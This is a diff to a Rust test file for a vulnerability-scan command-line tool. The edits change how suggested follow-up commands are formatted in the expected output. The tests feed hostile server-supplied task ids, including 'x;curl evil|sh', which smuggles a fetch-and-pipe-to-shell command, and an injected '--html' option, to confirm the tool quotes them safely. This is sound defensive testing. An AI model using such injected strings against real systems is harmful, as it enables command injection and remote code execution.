@@ -3,7 +3,7 @@
 use serde_json::{Value, json};
 
 use crate::canned::{self, Canned};
-use crate::program::{Ran, TASK, hss, hss_at, run};
+use crate::program::{Ran, TASK, follow_up, hss, hss_at, run};
 
 fn hosts_of(body: &Value, arguments: &[&str]) -> Ran {
     let server = Canned::new([canned::json(200, &body.to_string())]);
@@ -84,10 +84,16 @@ fn suggested_commands_quote_ids_of_the_server() {
     let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
     assert_eq!(started.printed(), "x;curl evil|sh\n");
-    assert_eq!(started.stderr, "started; follow it with: hss scan wait 'x;curl evil|sh'\n");
+    assert_eq!(
+        started.stderr,
+        format!("started; follow it with: {}\n", follow_up(&server.url, "scan wait 'x;curl evil|sh'"))
+    );
     let server = Canned::new([canned::json(200, &json!({"task_id": "--html=x y"}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
-    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- '--html=x y'\n");
+    assert_eq!(
+        started.stderr,
+        format!("started; follow it with: {}\n", follow_up(&server.url, "scan wait -- '--html=x y'"))
+    );
     // A printed id can be passed to a command.
     let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
     run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
@@ -128,7 +134,10 @@ fn start_reports_a_started_scan_whose_id_cannot_be_displayed() {
             let said = format!("error: CreateVulnerabilityScanTask: {said} (request id ");
             assert!(ran.failed_with(1).starts_with(&said), "{more:?}: {}", ran.stderr);
             assert!(
-                ran.stderr.ends_with("). The scan has started: see hss scan list --max 5\n"),
+                ran.stderr.ends_with(&format!(
+                    "). The scan has started: see {}\n",
+                    follow_up(&server.url, "scan list --max 5")
+                )),
                 "{more:?}: {}",
                 ran.stderr
             );
@@ -148,7 +157,8 @@ fn start_reports_a_started_scan_whose_id_is_not_unicode() {
         let said =
             "error: CreateVulnerabilityScanTask: the response has a task id that is not valid Unicode (request id ";
         assert!(ran.failed_with(1).starts_with(said), "{more:?}: {}", ran.stderr);
-        assert!(ran.stderr.ends_with("). The scan has started: see hss scan list --max 5\n"), "{}", ran.stderr);
+        let hint = format!("). The scan has started: see {}\n", follow_up(&server.url, "scan list --max 5"));
+        assert!(ran.stderr.ends_with(&hint), "{}", ran.stderr);
         assert_eq!(server.requests().len(), 1, "{more:?}");
     }
     // If the service itself sends U+FFFD, it is part of the id.
